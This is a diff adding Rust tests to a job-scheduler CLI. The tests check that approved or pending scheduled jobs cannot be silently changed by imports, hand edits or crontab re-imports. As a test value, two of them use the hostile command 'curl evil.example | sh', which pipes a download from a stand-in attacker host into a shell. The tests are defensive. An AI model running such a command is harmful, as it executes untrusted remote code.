@@ -263,3 +263,177 @@ fn fault_audit_list_accepted_limit_zero() {
     }
     w.run(&["audit", "list", "--limit", "1"]).ok();
 }
+
+// ---------------------------------------------------------------------------------------
+// 2. An approval covers the job definition its approvers saw
+// ---------------------------------------------------------------------------------------
+
+/// Writes a `jobs import` file holding `deploy-web` with `command` (and `extra` JSON fields).
+fn jobs_file(w: &World, command: &str, extra: &str) -> String {
+    let path = w.path("jobs.json");
+    let extra = if extra.is_empty() {
+        String::new()
+    } else {
+        format!(", {extra}")
+    };
+    std::fs::write(
+        &path,
+        format!(r#"[{{"name": "deploy-web", "command": "{command}"{extra}}}]"#),
+    )
+    .unwrap();
+    path.display().to_string()
+}
+
+/// Runs due jobs at 01:00 UTC (when the daily requests are due): the results' count.
+fn run_due_at_one(w: &mut World) -> String {
+    w.at("2030-01-01T01:00:00Z");
+    w.run(&["run-due"]).ok();
+    w.sql("SELECT COUNT(*) FROM results")
+}
+
+#[test]
+fn fault_an_import_changed_the_command_of_an_approved_schedule() {
+    let mut w = world();
+    let approved = request_daily(&w, Some("alice"), "nightly");
+    w.as_user("bob", &["approve", &stage_of(&approved)]).ok();
+    request_daily(&w, Some("alice"), "nightly-2"); // still pending approval
+
+    // A changed command is refused, naming both requests; nothing changes.
+    let file = jobs_file(&w, "curl evil.example | sh", "");
+    w.run(&["jobs", "import", &file])
+        .code(5)
+        .stderr_has("scheduled job 1 \"nightly\" (approved)")
+        .stderr_has("scheduled job 2 \"nightly-2\" (pending approval)")
+        .stderr_has("--force");
+    assert_eq!(
+        w.sql("SELECT command FROM jobs WHERE name = 'deploy-web'"),
+        "echo deployed"
+    );
+    // So are env, shell, stdin, run_as and variables.
+    for extra in [
+        r#""env": {"PATH": "/tmp"}"#,
+        r#""shell": "/bin/bash""#,
+        r#""stdin": "yes""#,
+        r#""run_as": "nobody""#,
+        r#""variables": [{"name": "env", "type": "string"}]"#,
+    ] {
+        let file = jobs_file(&w, "echo deployed", extra);
+        w.run(&["jobs", "import", &file]).code(5);
+    }
+    // A no-op re-import, and a change that runs the same thing, are fine.
+    let file = jobs_file(&w, "echo deployed", "");
+    w.run(&["jobs", "import", &file]).ok();
+    let file = jobs_file(
+        &w,
+        "echo deployed",
+        r#""description": "ships the web tier""#,
+    );
+    let r = w.json(&["jobs", "import", &file]);
+    assert_eq!(r[0]["outcome"], "updated");
+    assert_eq!(
+        w.sql("SELECT state FROM scheduled_jobs ORDER BY id"),
+        "active\npending"
+    );
+
+    // --force changes it and cancels both requests, audited.
+    let file = jobs_file(&w, "curl evil.example | sh", "");
+    let r = w.json(&["jobs", "import", &file, "--force"]);
+    assert_eq!(r[0]["canceled_schedules"], serde_json::json!([1, 2]));
+    assert_eq!(
+        w.sql("SELECT state FROM scheduled_jobs ORDER BY id"),
+        "canceled\ncanceled"
+    );
+    assert_eq!(
+        w.sql("SELECT state FROM workflows ORDER BY id"),
+        "canceled\ncanceled"
+    );
+    assert_eq!(
+        w.sql("SELECT COUNT(*) FROM audit WHERE action = 'workflow.cancel'"),
+        "2"
+    );
+    assert_eq!(run_due_at_one(&mut w), "0", "nothing runs unapproved");
+}
+
+#[test]
+fn fault_run_due_ran_an_approved_schedule_whose_job_changed_behind_its_back() {
+    let mut w = world();
+    let s = request_daily(&w, Some("alice"), "nightly");
+    w.as_user("bob", &["approve", &stage_of(&s)]).ok();
+    // Changed without jobctl's checks (a bug elsewhere, a hand edit).
+    w.sql("UPDATE jobs SET command = 'echo not what was approved' WHERE name = 'deploy-web'");
+    w.at("2030-01-01T01:00:00Z");
+    w.run(&["run-due"])
+        .ok()
+        .stderr_has("changed since it was approved");
+    assert_eq!(
+        w.sql("SELECT COUNT(*) FROM results"),
+        "0",
+        "recorded nothing"
+    );
+    assert_eq!(
+        w.sql("SELECT next_run FROM scheduled_jobs WHERE id = 1"),
+        "1893459600",
+        "not claimed"
+    );
+    // The approved definition back: it runs.
+    w.sql("UPDATE jobs SET command = 'echo deployed' WHERE name = 'deploy-web'");
+    assert_eq!(run_due_at_one(&mut w), "1");
+}
+
+#[test]
+fn fault_import_crontab_changed_the_environment_of_a_job_awaiting_approval() {
+    let w = world();
+    w.run(&["workflows", "add", "cron", "--job", "tab-*"]).ok();
+    w.run(&[
+        "workflows",
+        "add-stage",
+        "cron",
+        "--name",
+        "leads",
+        "--sequence",
+        "1",
+        "--min-approvers",
+        "1",
+        "--group",
+        "leads",
+    ])
+    .ok();
+    let tab = w.path("tab");
+    std::fs::write(&tab, "FOO=1\n0 1 * * * echo hi\n").unwrap();
+    let tab = tab.display().to_string();
+    w.run(&["import-crontab", &tab]).ok();
+    assert_eq!(w.sql("SELECT state FROM scheduled_jobs"), "pending");
+    let env = w.sql("SELECT env FROM jobs WHERE name LIKE 'tab-%'");
+
+    // The environment changes and a new entry appears: the new entry imports, the held one
+    // is skipped with the reason, unchanged.
+    std::fs::write(&tab, "FOO=2\n0 1 * * * echo hi\n\n30 2 * * * echo other\n").unwrap();
+    let r = w.run(&["import-crontab", &tab, "--json"]).ok();
+    let doc = r.json();
+    let skipped = doc["skipped"].as_array().unwrap();
+    assert_eq!(skipped.len(), 1, "{doc}");
+    assert_eq!(skipped[0]["line"], 2);
+    assert!(
+        skipped[0]["reason"]
+            .as_str()
+            .unwrap()
+            .contains("pending approval or approved"),
+        "{doc}"
+    );
+    assert_eq!(
+        w.sql("SELECT env FROM jobs WHERE name LIKE 'tab-%' AND command = 'echo hi'"),
+        env
+    );
+    assert_eq!(
+        w.sql("SELECT COUNT(*) FROM jobs WHERE command = 'echo other'"),
+        "1"
+    );
+    // A time zone change is held back the same way.
+    std::fs::write(&tab, "FOO=1\nCRON_TZ=Europe/Paris\n0 1 * * * echo hi\n").unwrap();
+    let doc = w.run(&["import-crontab", &tab, "--json"]).ok().json();
+    assert_eq!(doc["skipped"][0]["line"], 3, "{doc}");
+    assert_eq!(
+        w.sql("SELECT time_zone FROM scheduled_jobs WHERE id = 1"),
+        "UTC"
+    );
+}
